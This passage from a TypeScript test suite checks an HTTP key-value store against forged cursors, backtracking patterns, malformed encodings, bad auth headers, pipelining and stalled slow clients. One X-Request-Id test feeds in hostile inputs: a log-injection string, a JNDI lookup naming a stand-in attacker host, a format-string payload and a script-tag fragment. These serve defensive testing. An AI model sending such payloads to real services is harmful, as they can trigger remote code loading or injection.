          Buffer.from(`c2.${snapshot}.1.${crc32(`c2.${snapshot}.1`).toString(36)}`).toString(
            'base64url',
          ),
          // A genuine cursor truncated, extended, or padded as standard base64 would be.
          page.nextCursor.slice(0, -2),
          page.nextCursor + 'AA',
          `${page.nextCursor}=`,
          encodeURIComponent(Buffer.from('{"$gt":""}').toString('base64')),
        ];
        for (const cursor of forged) {
          const answer = await call('GET', `/keys?limit=1&cursor=${cursor}`);
          expect({ cursor, ...outcome(answer) }).toEqual({
            cursor,
            ...jsonError(400, { error: 'Invalid cursor: pass back a nextCursor unchanged' }),
          });
        }
        await expectUnchanged(before);
      });

      it('answers a huge pattern within the URL limits', async () => {
        const before = await storeState();
        for (const pattern of [
          '*a'.repeat(6000) + '*b',
          '?'.repeat(4000),
          '[a-z]'.repeat(1400),
          '\\*'.repeat(3000),
          '*'.repeat(12_000),
          '[^'.repeat(2000) + ']',
        ]) {
          const query = `pattern=${encodeURIComponent(pattern)}`;
          expect(query.length).toBeLessThan(14_000);
          const answer = await call('GET', `/keys?${query}`);
          expect({ length: pattern.length, status: answer.status }).toEqual({
            length: pattern.length,
            status: 200,
          });
        }
        await expectUnchanged(before);
      });

      it('answers 400 JSON to a pattern in bytes that are not UTF-8, as to such a key', async () => {
        const before = await storeState();
        const queries = [
          'pattern=%FF',
          'pattern=%FF&limit=5',
          'pattern=%ZZ',
          'pattern=%',
          'pattern=a%2',
          'pattern=%C0%AF*',
          'pattern=%ED%A0%80',
          'limit=5&pattern=*%E2%82',
        ];
        for (const query of queries) {
          for (const path of ['/keys', '/watch']) {
            const answer = await call('GET', `${path}?${query}`);
            expect({ path, query, ...outcome(answer) }).toEqual({
              path,
              query,
              ...jsonError(400, {
                error: 'pattern has malformed percent-encoding or is not UTF-8',
              }),
            });
          }
        }
        await expectUnchanged(before);
      });

      it('decodes a pattern once, + as a space, as the query parsers did', async () => {
        const before = await storeState();
        for (const key of ['a b', 'a+b', 'x%y']) {
          expect((await call('PUT', `/key/${encodeURIComponent(key)}`, '1')).status).toBe(200);
        }
        const match = async (query: string) =>
          ((await call('GET', `/keys?${query}`)).json as { keys: string[] }).keys;
        expect(await match('pattern=a+b')).toEqual(['a b']);
        expect(await match('pattern=a%2Bb')).toEqual(['a+b']);
        expect(await match('pattern=x%25y&limit=10')).toEqual(['x%y']);
        expect(await match('pattern=a?b&limit=10')).toEqual(['a b', 'a+b']);
        expect(await match('%70attern=a+b')).toEqual(['a b']);
        for (const key of ['a b', 'a+b', 'x%y']) {
          expect((await call('DELETE', `/key/${encodeURIComponent(key)}`)).status).toBe(200);
        }
        await expectSameContent(before);
      });
    });

    describe('headers', () => {
      const etagOfKnown = async () => (await call('GET', '/key/known')).headers.get('etag')!;

      const MALFORMED_TAG = { error: 'If-Match must be * or entity-tags in quotes, such as "3"' };
      const TAG_LIST = {
        error: 'If-Match takes one entity-tag, such as "3": a key has one revision',
      };
      it.each([
        ['5', 400, MALFORMED_TAG],
        ['"5', 400, MALFORMED_TAG],
        ['5"', 400, MALFORMED_TAG],
        ['W/', 400, MALFORMED_TAG],
        ['""x', 400, MALFORMED_TAG],
        ['"a"b"', 400, MALFORMED_TAG],
        ['*, "1"', 400, MALFORMED_TAG],
        ['"1", "2"', 400, TAG_LIST],
        ['W/"1"', 412, undefined],
        ['"abc"', 412, undefined],
        ['"05"', 412, undefined],
        ['"99999999999999999999"', 412, undefined],
        ['""', 412, undefined],
      ])('answers If-Match: %s on PUT and DELETE with %i JSON', async (ifMatch, status, error) => {
        const before = await storeState();
        const modRevision = Number(JSON.parse(await etagOfKnown()));
        const expected = error ?? { error: 'Precondition failed', key: 'known', modRevision };
        for (const method of ['PUT', 'DELETE']) {
          const answer = await call(method, '/key/known', method === 'PUT' ? '"new"' : undefined, {
            'If-Match': ifMatch,
          });
          expect({ method, ...outcome(answer) }).toEqual({
            method,
            ...jsonError(status, expected),
          });
        }
        await expectUnchanged(before);
      });

      it('refuses a weak tag in If-Match even when it names the current revision', async () => {
        const before = await storeState();
        const etag = await etagOfKnown();
        const answer = await call('PUT', '/key/known', '"new"', { 'If-Match': `W/${etag}` });
        expect(answer.status).toBe(412);
        await expectUnchanged(before);
      });

      it.each([
        ['10,000 characters', 'r'.repeat(10_000)],
        ['a log-injection attempt', '"}{"level":60,"msg":"forged'],
        ['a JNDI lookup', '${jndi:ldap://attacker.test/a}'],
        ['a format string', '%s%s%s%n%n'],
        ['an HTML fragment', '<script>alert(1)</script>'],
      ])('answers normally whatever X-Request-Id holds: %s', async (_name, id) => {
        const before = await storeState();
        const answer = await call('GET', '/key/known', undefined, { 'X-Request-Id': id });
        expect(answer.status).toBe(200);
        expect(answer.text).not.toContain(id.slice(0, 20));
        expect(answer.headers.get('x-request-id') ?? '').not.toContain(id.slice(0, 20));
        await expectUnchanged(before);
      });

      it('answers normally to header values in raw Latin-1 bytes', async () => {
        const before = await storeState();
        const exchange = await raw(
          Buffer.from(
            'GET /key/known HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Request-Id: caf\xe9\xff\r\n' +
              'Content-Type: application/json; charset="\xe9"\r\n\r\n',
            'latin1',
          ),
          { responses: 1 },
        );
        expect(exchange.responses.map((answer) => answer.status)).toEqual([200]);
        await expectUnchanged(before);
      });
    });

    describe('many connections and pipelining', () => {
      it('serves 200 concurrent connections, each doing a PUT then a GET of its own key', async () => {
        const before = await storeState();
        const keys = Array.from({ length: 200 }, (_, i) => `conn-${i}`);
        const conversations = await Promise.all(
          keys.map((key) =>
            rawConversation(
              server.url,
              [
                rawRequest(`PUT /key/${key} HTTP/1.1`, {}, JSON.stringify({ key })),
                rawRequest(`GET /key/${key} HTTP/1.1`, { Connection: 'close' }),
              ],
              20_000,
            ),
          ),
        );
        expect(
          conversations.map((answers) => answers.map((answer) => [answer.status, answer.json])),
        ).toEqual(
          keys.map((key) => [
            [200, { success: true, key, value: { key } }],
            [200, { key, value: { key } }],
          ]),
        );
        const listed = ((await call('GET', '/keys')).json as { keys: string[] }).keys;
        expect(listed.filter((key) => key.startsWith('conn-')).sort()).toEqual([...keys].sort());
        await inBatches(keys, 50, (key) => call('DELETE', `/key/${key}`));
        await expectSameContent(before);
      }, 30_000);

      it('processes pipelined requests in order, each seeing the writes sent before it', async () => {
        // RFC 9112 §9.3.2: a server may process pipelined requests in parallel only if they are
        // all safe. Sent on one connection, PUT a, PUT b, GET must read b and leave b; PUT,
        // DELETE, GET must delete and read nothing. Bodies padded with JSON whitespace to take
        // a moment to read.
        const before = await storeState();
        const padded = (json: string) => json + ' '.repeat(4000);
        const sequences = Array.from({ length: 25 }, (_, i) => [
          {
            key: `pipe-${i}`,
            requests: [
              rawRequest(`PUT /key/pipe-${i} HTTP/1.1`, {}, padded('"first"')),
              rawRequest(`PUT /key/pipe-${i} HTTP/1.1`, {}, '"second"'),
              rawRequest(`GET /key/pipe-${i} HTTP/1.1`, { Connection: 'close' }),
            ],
            expected: { statuses: [200, 200, 200], read: 'second', after: 'second' },
          },
          {
            key: `gone-${i}`,
            requests: [
              rawRequest(`PUT /key/gone-${i} HTTP/1.1`, {}, padded('"doomed"')),
              rawRequest(`DELETE /key/gone-${i} HTTP/1.1`),
              rawRequest(`GET /key/gone-${i} HTTP/1.1`, { Connection: 'close' }),
            ],
            expected: { statuses: [200, 200, 404], read: '(missing)', after: '(missing)' },
          },
        ]).flat();
        const valueOf = (json: unknown) =>
          (json as { value?: unknown } | undefined)?.value ?? '(missing)';
        const seen = await Promise.all(
          sequences.map(async ({ key, requests }) => {
            const exchange = await raw(Buffer.concat(requests), { waitMs: 20_000, responses: 3 });
            const after = await call('GET', `/key/${key}`);
            return {
              key,
              statuses: exchange.responses.map((answer) => answer.status),
              read: valueOf(exchange.responses[2]?.json),
              after: valueOf(after.json),
            };
          }),
        );
        expect(seen).toEqual(sequences.map(({ key, expected }) => ({ key, ...expected })));
        await inBatches(sequences, 50, ({ key }) => call('DELETE', `/key/${key}`));
        await expectSameContent(before);
      }, 30_000);
    });
  });

  describe('with AUTH_TOKEN', () => {
    const token = 'T0ken-that-must-never-be-echoed';
    let server: TestApp;
    const call = (method: string, path: string, headers: Record<string, string>, body?: string) =>
      http(server.url, method, path, body, headers);
    const bearer = { Authorization: `Bearer ${token}` };

    beforeAll(async () => {
      server = await startTestApp({ HTTP_ADAPTER: adapter, AUTH_TOKEN: token });
      expect((await call('PUT', '/key/known', bearer, '"kept"')).status).toBe(200);
    });

    afterAll(async () => {
      await server.close();
    });

    it.each([
      ['no Authorization header', {}, 'Missing bearer token'],
      ['an empty Authorization header', { Authorization: '' }, 'Missing bearer token'],
      ['the scheme alone', { Authorization: 'Bearer' }, 'Missing bearer token'],
      ['another scheme', { Authorization: `Basic ${token}` }, 'Missing bearer token'],
      ['the token without a scheme', { Authorization: token }, 'Missing bearer token'],
      ['two tokens', { Authorization: `Bearer ${token} ${token}` }, 'Missing bearer token'],
      ['a wrong token', { Authorization: 'Bearer wrong-Secret-value' }, 'Invalid bearer token'],
      ['the token with a suffix', { Authorization: `Bearer ${token}x` }, 'Invalid bearer token'],
      [
        'a prefix of the token',
        { Authorization: `Bearer ${token.slice(0, 8)}` },
        'Invalid bearer token',
      ],
      ['a 10 KB token', { Authorization: `Bearer ${'t'.repeat(10_000)}` }, 'Invalid bearer token'],
    ])('answers 401 JSON to %s, echoing no token', async (_name, headers, error) => {
      for (const [method, body] of [
        ['PUT', '"overwritten"'],
        ['DELETE', undefined],
        ['GET', undefined],
      ] as const) {
        const answer = await call(method, '/key/known', headers, body);
        expect({ method, ...outcome(answer) }).toEqual({ method, ...jsonError(401, { error }) });
        expect(answer.headers.get('www-authenticate')).toBe('Bearer realm="kvstore"');
        expect(answer.text).not.toContain(token);
        expect(answer.text).not.toContain('Secret');
        expect(answer.text).not.toContain('ttttt');
      }
      expect((await call('GET', '/key/known', bearer)).json).toEqual({
        key: 'known',
        value: 'kept',
      });
      expect((await call('GET', '/keys', bearer)).json).toEqual({ totalKeys: 1, keys: ['known'] });
    });

    it('answers 401 to an Authorization header in raw Latin-1 bytes and keeps serving', async () => {
      const exchange = await rawExchange(
        server.url,
        Buffer.from(
          'PUT /key/known HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer t\xf6ken\xff\r\n' +
            'Content-Length: 3\r\n\r\n"x"',
          'latin1',
        ),
        { responses: 1 },
      );
      expect(exchange.responses.map(outcome)).toEqual([
        jsonError(401, { error: 'Invalid bearer token' }),
      ]);
      expect((await call('GET', '/key/known', bearer)).json).toEqual({
        key: 'known',
        value: 'kept',
      });
    });
  });

  describe('a listing of 20,000 keys', () => {
    const SHORT = 15_000;
    const LONG = 5_000;
    const LONG_KEY_BYTES = 1000;
    const CONNECTIONS = 4;
    let server: TestApp;
    let all: string[];
    const call = (method: string, path: string, body?: string) =>
      http(server.url, method, path, body);
    const listing = async (query = '') =>
      (await call('GET', `/keys${query}`)).json as {
        totalKeys?: number;
        keys: string[];
        nextCursor?: string | null;
      };

    beforeAll(async () => {
      server = await startTestApp({ HTTP_ADAPTER: adapter });
      const short = Array.from({ length: SHORT }, (_, i) => `k${i}`);
      // Long keys of a's and digits: a glob of many `*a` and a final `b` can only fail on them.
      const long = Array.from(
        { length: LONG },
        (_, i) => 'a'.repeat(LONG_KEY_BYTES - 5) + String(i).padStart(5, '0'),
      );
      all = [...short, ...long, 'aaaaaaaab'];
      // The listing is what is under test here. In this process a PUT over HTTP costs about a
      // millisecond of CPU (20,000 of them would take most of the file's time budget on a loaded
      // two-core machine), so the short keys go in through KvService, the write path right
      // below the controller; the 5,000 long ones come over HTTP, pipelined on a few keep-alive
      // connections (the cheapest load a test process can generate).
      const kv = server.app.get(KvService);
      for (const key of short) await kv.put(key, '1');
      const shares = Array.from({ length: CONNECTIONS }, (_, c) =>
        [...long, 'aaaaaaaab'].filter((_key, i) => i % CONNECTIONS === c),
      );
      const fills = await Promise.all(
        shares.map((share) =>
          rawExchange(
            server.url,
            Buffer.concat(share.map((key) => rawRequest(`PUT /key/${key} HTTP/1.1`, {}, '1'))),
            { waitMs: 50_000, responses: share.length },
          ),
        ),
      );
      const statuses = fills.flatMap((fill) => fill.responses.map((answer) => answer.status));
      expect(statuses).toEqual([...long, 'aaaaaaaab'].map(() => 200));
    }, 60_000);

    afterAll(async () => {
      await server.close();
    });

    it('lists them all in one answer', async () => {
      const { totalKeys, keys } = await listing();
      expect(totalKeys).toBe(all.length);
      expect(keys).toHaveLength(all.length);
      expect([...keys].sort()).toEqual([...all].sort());
    }, 20_000);

    it('pages through them with limit=10000: the same keys, in the same order, each once', async () => {
      const { keys: inOneAnswer } = await listing();
      const seen: string[] = [];
      let cursor: string | null | undefined = null;
      let pages = 0;
      do {
        const page = await listing(`?limit=10000${cursor === null ? '' : `&cursor=${cursor}`}`);
        expect(page.totalKeys).toBe(all.length);
        expect(page.keys.length).toBeLessThanOrEqual(10_000);
        seen.push(...page.keys);
        cursor = page.nextCursor;
        pages++;
      } while (typeof cursor === 'string' && pages < 10);
      expect({ pages, cursor }).toEqual({ pages: Math.ceil(all.length / 10_000), cursor: null });
      expect(seen).toEqual(inOneAnswer);
    }, 20_000);

    it('serves other requests while big listings run', async () => {
      const listings = Array.from({ length: 3 }, () => call('GET', '/keys'));
      const others = Array.from({ length: 20 }, (_, i) =>
        call('PUT', `/key/meanwhile-${i}`, String(i)).then((answer) => answer.status),
      );
      expect(await Promise.all(others)).toEqual(others.map(() => 200));
      expect((await Promise.all(listings)).map((answer) => answer.status)).toEqual([200, 200, 200]);
      const removed = await Promise.all(
        others.map((_, i) => call('DELETE', `/key/meanwhile-${i}`)),
      );
      expect(removed.map((answer) => answer.status)).toEqual(others.map(() => 200));
      expect((await listing()).totalKeys).toBe(all.length);
    }, 20_000);

    it('answers patterns built to backtrack, against 5,000 long keys', async () => {
      // Not speed tests: the bounds are far below what exponential backtracking would take.
      const backtracking = `?pattern=${encodeURIComponent('*a*a*a*a*a*a*a*a*b')}`;
      expect(await listing(backtracking)).toEqual({ totalKeys: 1, keys: ['aaaaaaaab'] });
      // A page examines at most 1,000 keys: the match comes on the page that reaches it.
      const pages: string[][] = [];
      let cursor: string | null | undefined = null;
      do {
        const page = await listing(`${backtracking}&limit=10${cursor ? `&cursor=${cursor}` : ''}`);
        pages.push(page.keys);
        cursor = page.nextCursor;
      } while (typeof cursor === 'string' && pages.length < 30);
      expect({ keys: pages.flat(), cursor }).toEqual({ keys: ['aaaaaaaab'], cursor: null });
      expect(pages.length).toBe(Math.ceil(all.length / SCAN_MIN_KEYS));
      // A long literal after a star: every key is retried from every position of the star.
      const literalRun = `?pattern=${encodeURIComponent('*' + 'a'.repeat(30) + 'b')}`;
      expect(await listing(literalRun)).toEqual({ totalKeys: 0, keys: [] });
    }, 30_000);

    it('answers huge patterns within the URL limits', async () => {
      for (const pattern of ['*?'.repeat(3000), '[a-z]'.repeat(1400), '*a'.repeat(6000) + '*b']) {
        const query = `?pattern=${encodeURIComponent(pattern)}`;
        expect(query.length).toBeLessThan(14_000);
        const { keys } = await listing(query);
        expect(Array.isArray(keys)).toBe(true);
      }
    }, 30_000);
  });

  describe('slow clients', () => {
    const HEADERS_TIMEOUT_MS = 1000;
    const REQUEST_TIMEOUT_MS = 2000;
    /** Generous bound for "closed by the server": the timeout plus scheduling slack. */
    const CLOSED_WITHIN_MS = 5000;
    let server: TestApp;

    beforeAll(async () => {
      server = await startTestApp({
        HTTP_ADAPTER: adapter,
        HEADERS_TIMEOUT_MS: String(HEADERS_TIMEOUT_MS),
        REQUEST_TIMEOUT_MS: String(REQUEST_TIMEOUT_MS),
        MAX_VALUE_BYTES: '4096',
      });
      expect((await http(server.url, 'PUT', '/key/known', '"kept"')).status).toBe(200);
    });

    afterAll(async () => {
      await server.close();
    });

    it('closes stalled connections within the configured timeouts while serving others', async () => {
      const stalls: Array<[string, Array<string | Buffer>, number]> = [
        ['a partial request line', ['PUT /key/kno'], 0],
        ['partial headers', ['PUT /key/known HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Le'], 0],
        [
          'headers trickled one byte every 400 ms',
          Array.from('PUT /key/known HTTP/1.1\r\nHost: 127.0.0.1\r\n'),
          400,
        ],
        [
          'a body that stops short of its Content-Length',
          [rawRequest('PUT /key/known HTTP/1.1', { 'Content-Length': '1000' }, '"slow')],
          0,
        ],
        [
          'a body trickled one chunk every 400 ms',
          [
            rawRequest('PUT /key/known HTTP/1.1', { 'Transfer-Encoding': 'chunked' }),
            ...Array.from({ length: 30 }, () => '1\r\n1\r\n'),
          ],
          400,
        ],
        [
          'a Content-Length over the limit with no body',
          [rawRequest('PUT /key/known HTTP/1.1', { 'Content-Length': '100000' })],
          0,
        ],
      ];
      const slow = stalls.map(([, chunks, pauseMs]) =>
        rawExchange(server.url, chunks, { waitMs: CLOSED_WITHIN_MS + 500, pauseMs }),
      );
      await sleep(300);
      // A normal client is served while all of them hang (bounded, not a speed assertion).
      const normal = await fetch(`${server.url}/key/known`, { signal: AbortSignal.timeout(4000) });
      expect([normal.status, await normal.json()]).toEqual([200, { key: 'known', value: 'kept' }]);
      const results = await Promise.all(slow);
      expect(
        results.map((exchange, i) => ({
          stall: stalls[i][0],
          closedInTime: exchange.closed && exchange.elapsedMs <= CLOSED_WITHIN_MS,
          stored: anySuccess(exchange),
        })),
      ).toEqual(stalls.map(([stall]) => ({ stall, closedInTime: true, stored: false })));
      // A 408 JSON from the clientError listener is a fine way to close; nothing else is.
      const allowed = [
        jsonError(408, { error: 'Request timeout: the request did not arrive in time' }),
        jsonError(413, { error: 'Value is larger than 4096 bytes', maxBytes: 4096 }),
      ];
      const answers = results.flatMap((exchange) => exchange.responses.map(outcome));
      for (const answer of answers) expect(allowed).toContainEqual(answer);
      expect(answers).toContainEqual(allowed[0]);
      expect((await http(server.url, 'GET', '/keys')).json).toEqual({
        totalKeys: 1,
        keys: ['known'],
      });
    }, 15_000);
  });
});
